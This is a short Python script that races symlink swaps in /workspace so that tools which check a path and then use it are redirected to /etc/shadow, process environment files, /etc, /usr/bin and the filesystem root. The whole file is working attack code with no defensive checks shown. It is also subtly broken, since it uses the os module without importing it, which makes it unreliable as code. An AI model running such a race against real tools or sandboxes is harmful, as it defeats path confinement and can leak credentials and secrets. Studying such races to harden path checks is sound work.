# Swaps files, links and directories as fast as it can, until told to stop: whoever checks a path and then uses it, loses.
# Two processes, so that one swap can happen inside another.
import shutil

os.chdir("/workspace")
OUTSIDE = ["/proc/self/environ", "/proc/self/maps", "/proc/self/exe", "/proc/1/environ", "/etc/shadow", "/", "/proc/self/fd/0", "/proc/self/root/etc"]


def swap(place, until):
    swaps = 0
    inside, link = f".{place}-inside", f".{place}-link"
    while not os.path.exists(until):
        for outside in OUTSIDE:
            try:
                with open(inside, "w") as file:
                    file.write("inside")
                os.replace(inside, place)
                os.symlink(outside, link)
                os.replace(link, place)
                swaps += 2
            except OSError:
                pass
    return swaps


def swap_directory(until):
    swaps = 0
    while not os.path.exists(until):
        for outside in ("/", "/etc", "/proc/self", "/usr/bin", "/workspace/.."):
            try:
                os.makedirs("dir", exist_ok=True)
                with open("dir/inner", "w") as file:
                    file.write("inside")
                os.rename("dir", ".dir-away")
                os.symlink(outside, "dir")
                os.unlink("dir")
                swaps += 2
            except OSError:
                pass
            # The tools write into it as well, and an endless number of directories would fill the storage.
            shutil.rmtree(".dir-away", ignore_errors=True)
    return swaps


children = []
for work in (lambda: swap("target", "stop"), lambda: swap_directory("stop")):
    pid = os.fork()
    if pid == 0:
        try:
            count = work()
            with open(f"/tmp/swaps{os.getpid()}", "w") as file:
                file.write(str(count))
        finally:
            os._exit(0)
    children.append(pid)
print(children)
